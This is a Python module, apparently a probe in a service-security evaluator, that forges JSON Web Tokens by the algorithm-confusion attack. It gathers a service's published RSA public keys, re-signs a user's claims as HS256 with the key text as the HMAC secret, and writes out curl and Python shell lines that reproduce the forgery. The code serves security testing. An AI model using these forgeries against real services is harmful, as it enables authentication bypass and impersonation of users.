"""Tokens signed with a public key as if it were a secret (RFC 8725, section 2.1), and where a service shows its key.

Whoever takes the algorithm from the token verifies an HS256 token with what
it holds: the text of the public key, which everybody may read.
"""

from __future__ import annotations

import base64
import hmac
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, replace
from typing import Any

from evaluators.probes.auth_tokens import Forgery, Held, decoded
from evaluators.probes.world import World
from evaluators.service.request import Request, leaves

WELL_KNOWN = "/.well-known/jwks.json"
METADATA = ("/.well-known/openid-configuration", "/.well-known/oauth-authorization-server")
"""Paths of RFC 8414 and of OpenID Connect Discovery."""
PEM = re.compile(r"-----BEGIN (?:RSA )?PUBLIC KEY-----[\sA-Za-z0-9+/=\\]+?-----END (?:RSA )?PUBLIC KEY-----")
MOST = 2
"""Keys that are tried."""
LINE = 64
RSA = bytes.fromhex("300d06092a864886f70d0101010500")
"""rsaEncryption as an AlgorithmIdentifier (RFC 3279, section 2.3.1)."""


@dataclass(frozen=True)
class PublicKey:
    """A public key as a text of PEM (RFC 7468), with the line feed at its end."""

    pem: str
    lines: str
    """Lines of a shell that set `KEY` to it, without that line feed."""


def asymmetric(held: Held | None) -> bool:
    """Whether a credential is a token that a private key of RSA signed."""
    read = decoded(held.value) if held is not None else None
    return read is not None and str(read[0].get("alg")).startswith(("RS", "PS"))


async def public_keys(world: World) -> list[PublicKey]:
    """The keys that the service publishes, and those that stand in its own files."""
    found: dict[str, PublicKey] = {}
    for path in await _key_sets(world):
        for number, key in enumerate(_keys((await world.ask(_get(world, path))).body)):
            pem = pem_of(key)
            if pem:
                found.setdefault(pem, PublicKey(pem, _from_set(world.prefix + path, number)))
    for artifact in world.running.subject.draft:
        for text in PEM.findall(artifact.text):
            pem = text.replace("\\n", "\n").replace("\\", "").strip() + "\n"
            found.setdefault(pem, PublicKey(pem, f"KEY='{pem.strip()}'"))
    return list(found.values())[:MOST]


async def _key_sets(world: World) -> list[str]:
    """Paths that answer sets of keys (RFC 7517): working reads, the usual path, and what the metadata name."""
    plays = [play for play in world.plays.values() if play.operation.method == "GET" and not play.operation.secured]
    paths = [play.request.target for play in plays if _keys(play.step.answer.body)] or [WELL_KNOWN]
    for path in METADATA if paths == [WELL_KNOWN] else ():
        answer = await world.ask(_get(world, path))
        said = dict(leaves(_json(answer.body))).get(("jwks_uri",))
        named = re.match(r"https?://[^/]+(/.+)", said) if isinstance(said, str) else None
        paths += [named.group(1).removeprefix(world.prefix)] if named else []
    return paths


def _get(world: World, path: str) -> Request:
    return Request(replace(world.operations()[0], method="GET", path=path))


def _json(body: bytes) -> Any:
    try:
        return json.loads(body)
    except (ValueError, RecursionError):
        return None


def _keys(body: bytes) -> list[dict[str, str]]:
    """The RSA keys of a set."""
    said = _json(body)
    held = said.get("keys") if isinstance(said, dict) else None
    every = held if isinstance(held, list) else []
    return [key for key in every if isinstance(key, dict) and {"kty", "n", "e"} <= key.keys() and key["kty"] == "RSA"]


def pem_of(key: dict[str, str]) -> str:
    """An RSA key of a set as SubjectPublicKeyInfo (RFC 5280); empty where it cannot be read."""
    try:
        parts = [int.from_bytes(base64.urlsafe_b64decode(f"{key[name]}===")) for name in ("n", "e")]
    except (ValueError, TypeError):
        return ""
    whole = _tagged(48, b"".join(_tagged(2, each.to_bytes(each.bit_length() // 8 + 1, "big")) for each in parts))
    text = base64.b64encode(_tagged(48, RSA + _tagged(3, b"\0" + whole))).decode()
    cut = [text[at : at + LINE] for at in range(0, len(text), LINE)]
    return "\n".join(["-----BEGIN PUBLIC KEY-----", *cut, "-----END PUBLIC KEY-----", ""])


def _tagged(tag: int, content: bytes) -> bytes:
    """An element of DER."""
    size = len(content)
    long = size.to_bytes((size.bit_length() + 7) // 8, "big")
    return bytes([tag]) + (bytes([size]) if size < 128 else bytes([128 + len(long)]) + long) + content


def confused(held: Held, keys: list[PublicKey]) -> Iterator[Forgery]:
    """The identity's own claims signed by HMAC with the text of a public key."""
    read = decoded(held.value)
    for key in keys if read is not None else ():
        head = {**(read[0] if read is not None else {}), "alg": "HS256"}
        body = held.value.split(".")[1]
        coded = base64.urlsafe_b64encode(json.dumps(head).encode()).rstrip(b"=").decode()
        for secret, end in ((key.pem, "\\n"), (key.pem.rstrip("\n"), "")):
            made = hmac.new(secret.encode(), f"{coded}.{body}".encode(), "sha256").digest()
            signature = base64.urlsafe_b64encode(made).rstrip(b"=").decode()
            yield Forgery(
                "confused", "a token signed with its public key as an HMAC secret", f"{coded}.{body}.{signature}",
                lines=f"{key.lines}\n{_PYTHON.replace('TOKEN', held.variable).replace('END_OF_KEY', end)}",
            )  # fmt: skip


_PYTHON = """FORGED=$(python3 - "$TOKEN" "$KEY" <<'END'
import base64, hashlib, hmac, json, sys
token, key = sys.argv[1:]
def packed(raw): return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()
head, body = token.split(".")[:2]
head = json.loads(base64.urlsafe_b64decode(head + "=" * (-len(head) % 4)))
text = packed(json.dumps({**head, "alg": "HS256"}).encode()) + "." + body
print(text + "." + packed(hmac.new((key + "END_OF_KEY").encode(), text.encode(), hashlib.sha256).digest()))
END
)"""


def _from_set(path: str, number: int) -> str:
    """Lines that make the PEM of a key of a set."""
    return f"""KEY=$(curl -sS "$BASE_URL"'{path}' | python3 -c '
import base64, json, sys
key = [k for k in json.load(sys.stdin)["keys"] if k["kty"] == "RSA"][{number}]
def tagged(tag, raw):
    long = len(raw).to_bytes((len(raw).bit_length() + 7) // 8, "big")
    return bytes([tag]) + (bytes([len(raw)]) if len(raw) < 128 else bytes([128 + len(long)]) + long) + raw
def whole(text):
    n = int.from_bytes(base64.urlsafe_b64decode(text + "==="), "big")
    return tagged(2, n.to_bytes(n.bit_length() // 8 + 1, "big"))
der = tagged(48, whole(key["n"]) + whole(key["e"]))
der = tagged(48, bytes.fromhex("{RSA.hex()}") + tagged(3, b"\\0" + der))
text = base64.b64encode(der).decode()
lines = [text[at : at + {LINE}] for at in range(0, len(text), {LINE})]
print("\\n".join(["-----BEGIN PUBLIC KEY-----", *lines, "-----END PUBLIC KEY-----"]))')"""
